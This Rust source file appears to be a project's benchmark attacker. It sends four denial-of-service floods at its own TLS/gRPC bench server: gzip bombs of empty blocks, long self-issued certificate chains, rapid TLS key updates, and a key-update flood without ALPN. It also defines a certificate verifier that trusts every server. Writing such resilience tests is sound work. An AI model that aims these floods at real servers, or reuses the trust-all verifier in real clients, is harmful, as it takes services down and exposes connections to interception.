//! The attacker of `scripts/attacks/turns.py`: clients that make a server work for long.
//!
//! `bench_turns gzip|chains|keys|unasked ADDR SECONDS` attacks a `bench_server --tls` and prints what came of the attack:
//! * `gzip`: 16 connections send messages of 4 MiB that consist of empty blocks, as fast as the windows let them;
//! * `chains`: 40 clients at a time show 110 certificates, each of which could be the issuer of each other;
//! * `keys`: 3 connections send 31 key updates with each byte;
//! * `unasked`: the same, of clients that do not ask for HTTP/2 in the handshake.

#[path = "../../tests/support/slow_gzip.rs"]
mod slow_gzip;

use std::env;
use std::error::Error;
use std::future::poll_fn;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;

use bytes::Bytes;
use rcgen::{
    BasicConstraints, CertificateParams, CertifiedIssuer, DnType, IsCa, KeyPair, KeyUsagePurpose,
};
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::ring;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName, UnixTime};
use rustls::{ClientConfig, DigitallySignedStruct, SignatureScheme};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::timeout;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use slow_gzip::empty_blocks;

type BoxError = Box<dyn Error + Send + Sync>;

const USAGE: &str = "usage: bench_turns gzip|chains|keys|unasked ADDR SECONDS";

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<(), BoxError> {
    let args: Vec<String> = env::args().skip(1).collect();
    let [attack, addr, seconds] = args.as_slice() else {
        return Err(USAGE.into());
    };
    let time = Duration::from_secs(seconds.parse()?);
    let count = Arc::new(AtomicU64::new(0));
    let mut clients = JoinSet::new();
    match attack.as_str() {
        "gzip" => {
            let message = Bytes::from(empty_blocks(4_000_000));
            for _ in 0..16 {
                let (addr, message, count) = (addr.clone(), message.clone(), Arc::clone(&count));
                clients.spawn(async move {
                    loop {
                        let _ = bombs(&addr, &message, &count).await;
                    }
                });
            }
        }
        "chains" => {
            let config = chain()?;
            for _ in 0..40 {
                let (addr, config, count) = (addr.clone(), Arc::clone(&config), Arc::clone(&count));
                clients.spawn(async move {
                    loop {
                        if let Ok(mut stream) = connect(&addr, &config).await {
                            // The server's answer to the certificates.
                            let _ = stream.read(&mut [0; 64]).await;
                        }
                        count.fetch_add(1, Relaxed);
                    }
                });
            }
        }
        "keys" | "unasked" => {
            let mut config = client()?.with_no_client_auth();
            if attack == "keys" {
                config.alpn_protocols = vec![b"h2".to_vec()];
            }
            let config = Arc::new(config);
            for _ in 0..3 {
                let (addr, config, count) = (addr.clone(), Arc::clone(&config), Arc::clone(&count));
                clients.spawn(async move {
                    loop {
                        if let Ok(stream) = connect(&addr, &config).await {
                            let _ = updates(stream, &count).await;
                        }
                    }
                });
            }
        }
        _ => return Err(USAGE.into()),
    }
    let _ = timeout(time, async { while clients.join_next().await.is_some() {} }).await;
    let what = match attack.as_str() {
        "gzip" => "MB sent",
        "chains" => "handshakes",
        _ => "key updates",
    };
    let scale = if attack == "gzip" { 1_000_000 } else { 1 };
    println!("{} {what}", count.load(Relaxed) / scale);
    Ok(())
}

/// Sends messages that decompress to nothing, until the connection ends.
async fn bombs(addr: &str, message: &Bytes, count: &AtomicU64) -> Result<(), BoxError> {
    let tcp = TcpStream::connect(addr).await?;
    let (mut client, connection) = h2::client::handshake(tcp).await?;
    tokio::spawn(connection);
    let mut prefix = vec![1];
    prefix.extend(u32::try_from(message.len())?.to_be_bytes());
    loop {
        let request = http::Request::post("http://attacked/bench.Echo/Unary")
            .header("content-type", "application/grpc")
            .header("grpc-encoding", "gzip")
            .header("te", "trailers")
            .body(())?;
        client = client.ready().await?;
        let (response, mut body) = client.send_request(request, false)?;
        let mut rest = Bytes::from([&prefix[..], message].concat());
        while !rest.is_empty() {
            body.reserve_capacity(rest.len());
            let Some(room) = poll_fn(|cx| body.poll_capacity(cx)).await else {
                break;
            };
            let part = rest.split_to(room?.min(rest.len()));
            count.fetch_add(part.len() as u64, Relaxed);
            body.send_data(part, rest.is_empty())?;
        }
        let _ = response.await?;
    }
}

/// Sends 31 key updates with each byte of a frame that never ends.
async fn updates(mut stream: TlsStream<TcpStream>, count: &AtomicU64) -> Result<(), BoxError> {
    stream
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0\0\x40\0\xbb\0\0\0\0\0")
        .await?;
    loop {
        for _ in 0..31 {
            stream.get_mut().1.refresh_traffic_keys()?;
        }
        stream.write_all(&[0]).await?;
        count.fetch_add(31, Relaxed);
    }
}

async fn connect(addr: &str, config: &Arc<ClientConfig>) -> Result<TlsStream<TcpStream>, BoxError> {
    let tcp = TcpStream::connect(addr).await?;
    tcp.set_nodelay(true)?;
    let name = ServerName::try_from("localhost")?;
    Ok(TlsConnector::from(Arc::clone(config))
        .connect(name, tcp)
        .await?)
}

type Builder = rustls::ConfigBuilder<ClientConfig, rustls::client::WantsClientCert>;

fn client() -> Result<Builder, BoxError> {
    let builder = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()));
    Ok(builder
        .with_safe_default_protocol_versions()?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(Anyone)))
}

/// A client with a certificate and 109 authorities of one name, the name of the authority that the server trusts.
fn chain() -> Result<Arc<ClientConfig>, BoxError> {
    let params = || {
        let mut params = CertificateParams::default();
        params
            .distinguished_name
            .push(DnType::CommonName, "clients");
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        params.key_usages = vec![KeyUsagePurpose::KeyCertSign];
        params
    };
    let issuer = CertifiedIssuer::self_signed(params(), KeyPair::generate()?)?;
    let mut chain = Vec::new();
    for _ in 0..109 {
        chain.push(CertificateDer::from(
            params().signed_by(&KeyPair::generate()?, &issuer)?,
        ));
    }
    let key = KeyPair::generate()?;
    let leaf = CertificateParams::new(["client".to_owned()])?.signed_by(&key, &issuer)?;
    chain.insert(0, CertificateDer::from(leaf));
    let key = PrivateKeyDer::from(PrivatePkcs8KeyDer::from(key.serialize_der()));
    Ok(Arc::new(client()?.with_client_auth_cert(chain, key)?))
}

/// Trusts every server.
#[derive(Debug)]
struct Anyone;

impl ServerCertVerifier for Anyone {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        ring::default_provider()
            .signature_verification_algorithms
            .supported_schemes()
    }
}
